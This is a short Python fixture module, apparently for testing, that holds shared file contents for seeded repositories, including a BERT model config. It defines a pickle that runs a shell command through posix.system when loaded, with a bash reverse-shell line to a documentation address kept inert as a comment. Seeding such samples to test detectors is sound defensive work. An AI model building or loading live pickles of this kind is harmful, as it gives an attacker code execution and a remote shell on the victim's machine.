"""Contents of files that several seeded repositories share."""

from __future__ import annotations

import json

MEGABYTE = 1_000_000

# Calls posix.system when unpickled. The command ends at once; the rest of it is a comment.
HOSTILE_PICKLE = b"cposix\nsystem\n(S'exit 0 # bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\ntR."
BERT = json.dumps({"architectures": ["BertForMaskedLM"], "model_type": "bert"})
